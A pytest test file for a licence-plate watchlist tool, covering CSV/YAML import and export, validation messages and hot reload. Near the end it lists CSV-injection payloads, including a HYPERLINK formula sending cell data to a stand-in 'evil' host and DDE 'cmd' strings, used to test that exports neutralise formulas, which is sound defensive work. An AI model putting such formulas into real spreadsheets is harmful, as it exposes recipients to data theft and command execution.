"""alerts.watchlist_io: CSV/YAML import and export, directory loading, hot reload."""

from __future__ import annotations

import csv
import io
import logging
import os
from dataclasses import replace
from pathlib import Path

import pytest

from alerts.matching import Strictness
from alerts.watchlist import Category, EntryStatus, Scope, Watchlist
from alerts.watchlist_export import export_csv, export_yaml
from alerts.watchlist_io import (
    WatchlistImportError,
    WatchlistWatcher,
    default_entry_id,
    format_time,
    import_csv,
    import_yaml,
    load_watchlist_dir,
    parse_time,
)
from core.errors import ConfigError

REPO = Path(__file__).resolve().parents[2]
MINIMAL = "plate,category,level,reason\n京A12345,stolen,1,2026-11 盗抢车辆\n"
FULL = (
    "entry_id,plate,category,level,reason,applicant,unit,valid_from,valid_until,scope,"
    "strictness\n"
    "e1,京AD12345,wanted,2,在逃,张三,刑侦大队,2026-11-01,20261231235959,group:gate,loose\n"
    "e2,京A12*,key_vehicle,4,模式,,,2026-11-01T08:00:00+00:00,,area:1101;camera:c9,exact\n"
)


def _problems(call: object) -> list[str]:
    assert callable(call)
    with pytest.raises(WatchlistImportError) as caught:
        call()
    return caught.value.problems


def test_minimal_csv() -> None:
    (entry,) = import_csv(MINIMAL, "stolen.csv")
    assert (entry.plate, entry.category, entry.level, entry.reason) == (
        "京A12345", Category.STOLEN, 1, "2026-11 盗抢车辆")
    assert entry.status is EntryStatus.ACTIVE and entry.scope.network_wide
    assert entry.strictness is Strictness.STRICT and entry.applicant == "file:stolen.csv"
    assert entry.entry_id == default_entry_id("stolen.csv", "京A12345")
    assert entry.source == "stolen.csv" and entry.deployed_at is None


def test_default_ids_are_stable_and_per_file() -> None:
    assert import_csv(MINIMAL, "a.csv")[0].entry_id == import_csv(MINIMAL, "a.csv")[0].entry_id
    assert import_csv(MINIMAL, "a.csv")[0].entry_id != import_csv(MINIMAL, "b.csv")[0].entry_id


def test_optional_columns() -> None:
    first, second = import_csv(FULL, "full.csv")
    assert (first.entry_id, first.applicant, first.unit) == ("e1", "张三", "刑侦大队")
    assert first.valid_from == parse_time("2026-11-01T00:00:00+08:00")
    assert first.valid_until == parse_time("2026-12-31T23:59:59+08:00")
    assert first.scope == Scope(groups=("gate",)) and first.strictness is Strictness.LOOSE
    assert second.pattern == "京A12*" and second.plate is None
    assert second.valid_from == parse_time("2026-11-01T16:00:00+08:00")
    assert second.scope == Scope(cameras=("c9",), areas=("1101",))
    assert second.strictness is Strictness.EXACT


def test_bom_comments_blank_lines_and_aliases() -> None:
    text = "\ufeffPlate, Category ,LEVEL,reason\n# a comment line\n\n京A12345,盗抢,1,x\n"
    (entry,) = import_csv(text, "x.csv")
    assert entry.category is Category.STOLEN


def test_rows_report_source_row_field_why() -> None:
    text = MINIMAL + "京AI2345,stolenx,7,\n沪B1,wanted,x,r\n京A12345,stolen,1,again\n"
    problems = _problems(lambda: import_csv(text, "bad.csv"))
    assert problems == [
        "bad.csv:3: category: 'stolenx' is not a category; use one of wanted, stolen, "
        "key_vehicle, cloned_suspect, custom",
        "bad.csv:3: plate: 京AI2345 is not a valid plate (GA 36 formats); did you mean "
        "京A12345? write a pattern (京A1234?) for partial or non-standard plates",
        "bad.csv:3: level: 7 is not a level; use 1 (most urgent) to 4",
        "bad.csv:3: reason: a deploy needs a reason (布控事由)",
        "bad.csv:4: level: 'x' is not a level; use 1 (most urgent) to 4",
        "bad.csv:4: plate: 沪B1 is not a valid plate (GA 36 formats); write a pattern "
        "(京A1234?) for partial or non-standard plates",
        "bad.csv:5: plate: 京A12345 is listed twice (first at row 2); give each row its own "
        "entry_id to keep both",
    ]


@pytest.mark.parametrize(("text", "expected"), [
    ("", "bad.csv:1: file is empty"),
    ("plate,category,level\n", "bad.csv:1: reason: required column is missing"),
    ("plate,category,level,reason,colour\n", "bad.csv:1: colour: unknown column"),
    ("plate,plate,category,level,reason\n", "bad.csv:1: plate: column appears twice"),
    (MINIMAL + "京A12346,stolen,1,r,extra\n", "bad.csv:3: row has 5 cells"),
    (MINIMAL.replace("reason\n", "reason,valid_until\n") .replace("辆\n", "辆,tomorrow\n"),
     "bad.csv:2: valid_until: 'tomorrow' is not a time"),
    ("plate,category,level,reason,scope\n京A12345,stolen,1,r,zone:1\n",
     "bad.csv:2: scope: 'zone:1' is not camera:ID"),
    ("plate,category,level,reason,strictness\n京A12345,stolen,1,r,fuzzy\n",
     "bad.csv:2: strictness: 'fuzzy' is not a strictness"),
    ("plate,category,level,reason,entry_id\n京A12345,stolen,1,r,a\n京A12346,stolen,1,r,a\n",
     "bad.csv:3: entry_id: a is used twice (first at row 2)"),
    ("plate,category,level,reason,valid_from,valid_until\n"
     "京A12345,stolen,1,r,2026-12-01,2026-11-01\n", "bad.csv:2: valid_until: ends before"),
])
def test_file_problems(text: str, expected: str) -> None:
    problems = _problems(lambda: import_csv(text, "bad.csv"))
    assert any(p.startswith(expected) for p in problems), problems


def test_import_error_is_a_config_error() -> None:
    with pytest.raises(ConfigError):
        import_csv("plate\n", "x.csv")


@pytest.mark.parametrize(("text", "seconds"), [
    ("2026-11-01", 1793462400.0),
    ("2026-11-01T08:00:00", 1793491200.0),
    ("2026-11-01T00:00:00Z", 1793491200.0),
    ("2026-11-01T08:00+08:00", 1793491200.0),
    ("20261101080000", 1793491200.0),
])
def test_parse_time(text: str, seconds: float) -> None:
    assert parse_time(text) == seconds
    assert parse_time(format_time(seconds)) == seconds


YAML = """\
entries:
  - plate: 京A12345
    category: stolen
    level: 1
    reason: 2026-11 盗抢车辆
  - plate: 京AD12345
    category: wanted
    level: 2
    reason: 在逃
    valid_until: 2026-12-31 23:59:59
    scope: group:gate
"""


def test_yaml_import() -> None:
    first, second = import_yaml(YAML, "list.yaml")
    assert first.plate == "京A12345" and first.level == 1
    assert second.valid_until == parse_time("2026-12-31T23:59:59+08:00")
    assert second.scope == Scope(groups=("gate",))


@pytest.mark.parametrize(("text", "expected"), [
    ("entries: [\n", "list.yaml:2:"),
    ("- a\n", "list.yaml:1: the file must hold exactly one key, entries"),
    ("entries: []\nextra: 1\n", "list.yaml:1: the file must hold exactly one key"),
    (YAML.replace("    level: 2\n", "    level: 9\n"), "list.yaml:8: level: 9 is not a level"),
    (YAML.replace("    level: 2\n", "    levle: 2\n"), "list.yaml:8: levle: unknown key"),
    (YAML.replace("    level: 2\n", ""), "list.yaml:6: level: required key is missing"),
    ("entries:\n  - just text\n", "list.yaml:2: entry must be a mapping"),
])
def test_yaml_problems_point_at_lines(text: str, expected: str) -> None:
    problems = _problems(lambda: import_yaml(text, "list.yaml"))
    assert any(p.startswith(expected) for p in problems), problems


@pytest.mark.parametrize("fmt", ["csv", "yaml"])
def test_export_round_trip(fmt: str) -> None:
    entries = import_csv(FULL, "full.csv") + import_csv(MINIMAL, "min.csv")
    text = export_csv(entries) if fmt == "csv" else export_yaml(entries)
    again = import_csv(text, "x.csv") if fmt == "csv" else import_yaml(text, "x.yaml")
    strip = [(e.entry_id, e.target, e.category, e.level, e.reason, e.applicant, e.unit,
              e.valid_from, e.valid_until, e.scope, e.strictness) for e in entries]
    assert [(e.entry_id, e.target, e.category, e.level, e.reason, e.applicant, e.unit,
             e.valid_from, e.valid_until, e.scope, e.strictness) for e in again] == strip


def test_demo_watchlists_load() -> None:
    entries = load_watchlist_dir(REPO / "configs" / "watchlists")
    plates = {e.target for e in entries}
    assert len(entries) >= 3 and any(len(p) == 8 for p in plates)
    assert {Category.STOLEN, Category.WANTED, Category.KEY_VEHICLE} <= {
        e.category for e in entries}
    assert Watchlist(entries).hits("京A1Z345", "cam-1", None, 1_790_000_000.0)


def test_directory_is_all_or_nothing(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(MINIMAL, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(YAML, encoding="utf-8")
    (tmp_path / "notes.txt").write_text("ignored", encoding="utf-8")
    assert len(load_watchlist_dir(tmp_path)) == 3
    (tmp_path / "c.csv").write_text(MINIMAL + "京AI2345,stolen,1,r\n", encoding="utf-8")
    (tmp_path / "d.csv").write_text("plate,category,level,reason,entry_id\n"
                                    "京A12345,stolen,1,r,same\n", encoding="utf-8")
    (tmp_path / "e.csv").write_text("plate,category,level,reason,entry_id\n"
                                    "京A12345,stolen,1,r,same\n", encoding="utf-8")
    problems = _problems(lambda: load_watchlist_dir(tmp_path))
    assert problems[0].startswith("c.csv:3: plate:")
    assert problems[1] == ("e.csv: entry_id: same is also in d.csv; "
                           "ids must be unique across files")
    assert _problems(lambda: load_watchlist_dir(tmp_path / "missing"))[0].endswith(
        "watchlist directory does not exist")


def test_gb18030_files_from_excel(tmp_path: Path) -> None:
    (tmp_path / "excel.csv").write_bytes(MINIMAL.encode("gb18030"))
    (entry,) = load_watchlist_dir(tmp_path)
    assert entry.plate == "京A12345" and entry.reason == "2026-11 盗抢车辆"


def _write(path: Path, text: str, tick: int) -> None:
    """Write and set a distinct mtime: coarse file-system clocks must not hide an edit."""
    path.write_text(text, encoding="utf-8")
    os.utime(path, ns=(tick * 1_000_000_000, tick * 1_000_000_000))


def test_watcher_reloads_and_keeps_old_on_error(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "list.csv"
    _write(path, MINIMAL, 1)
    seen: list[Watchlist] = []
    watcher = WatchlistWatcher(tmp_path, on_reload=seen.append)
    assert len(watcher.watchlist) == 1 and not watcher.poll()
    _write(path, MINIMAL + "沪B88888,wanted,2,r\n", 2)
    assert watcher.poll() and len(watcher.watchlist) == 2 and seen == [watcher.watchlist]
    with caplog.at_level(logging.ERROR):
        _write(path, MINIMAL + "沪B8888,wanted,2,r\n", 3)
        assert not watcher.poll()
        assert not watcher.poll()                      # same bad state: reported once
    assert len(watcher.watchlist) == 2 and watcher.last_error is not None
    assert "list.csv:3: plate:" in watcher.last_error
    assert sum("keeping the 2 running entries" in r.message for r in caplog.records) == 1
    _write(path, MINIMAL, 4)
    assert watcher.poll() and len(watcher.watchlist) == 1 and watcher.last_error is None
    path.unlink()
    assert watcher.poll() and len(watcher.watchlist) == 0


def test_watcher_refuses_a_bad_start(tmp_path: Path) -> None:
    _write(tmp_path / "list.csv", "plate\n", 1)
    with pytest.raises(WatchlistImportError):
        WatchlistWatcher(tmp_path)


def test_malformed_csv_is_a_file_problem() -> None:
    huge = MINIMAL + "京A12346,stolen,1," + "r" * 200_000 + "\n"     # past csv's field limit
    problems = _problems(lambda: import_csv(huge, "huge.csv"))
    assert problems[0].startswith("huge.csv:3: cannot read CSV: field larger than field limit")


FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
            "-2+3+cmd|x", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("reason", FORMULAS)
def test_export_quotes_cells_a_spreadsheet_would_run(reason: str) -> None:
    """Issue 11, item 8 (OWASP CSV injection): no exported cell starts like a formula, and
    the import takes the quote off again, so the reason survives a round trip."""
    entries = import_csv(f"plate,category,level,reason,unit\n京A12345,stolen,1,x,{'=1+2'}\n",
                         "u.csv")
    entries = [replace(entries[0], reason=reason)]
    text = export_csv(entries)
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["reason"] == "'" + reason and row["unit"] == "'=1+2"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for cell in row.values()), row
    assert import_csv(text, "again.csv")[0].reason == reason.strip()


def test_plain_cells_and_quotes_are_left_alone() -> None:
    entries = import_csv("plate,category,level,reason\n京A12345,stolen,1,'引号' 开头\n", "u.csv")
    text = export_csv(entries)
    assert next(csv.DictReader(io.StringIO(text, newline="")))["reason"] == "'引号' 开头"
    assert import_csv(text, "again.csv")[0].reason == "'引号' 开头"
